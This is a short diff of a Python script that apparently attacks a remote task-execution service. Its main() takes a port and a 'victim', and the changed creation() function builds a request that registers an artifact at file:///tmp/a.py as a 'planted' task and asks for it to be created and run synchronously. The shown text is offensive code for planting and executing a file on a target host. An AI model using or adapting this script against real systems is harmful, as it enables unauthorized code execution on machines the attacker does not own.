@@ -29,7 +29,9 @@ def main(port: int, victim: str) -> object:
 
 def creation() -> bytes:
     artifact = {"artifact_id": "a", "location": "file:///tmp/a.py", "version": "1"}
-    return json.dumps({"artifact_spec": artifact, "task_name": "planted"}).encode()
+    call = {"artifact_spec": artifact, "task_name": "planted", "create_if_not_exists": True}
+    call |= {"execution_mode": "EXECUTION_MODE_SYNC", "invocation_type": "INVOCATION_TYPE_NEW_TASK"}
+    return json.dumps(call).encode()
 
 
 def ask(method: str, url: str, body: bytes = b"", headers: dict | None = None) -> str:
